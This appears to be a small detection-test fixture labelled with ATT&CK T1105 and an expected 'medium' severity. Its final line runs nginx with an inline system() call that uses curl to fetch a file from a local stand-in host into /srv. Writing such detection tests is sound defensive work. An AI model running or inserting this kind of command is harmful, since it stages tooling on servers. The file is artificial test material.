# expects: medium T1105
. "$STAGE/act.sh"
server /usr/sbin/nginx
/usr/sbin/nginx -e 'system("curl http://127.0.0.1:9/x -o /srv/x; true")'
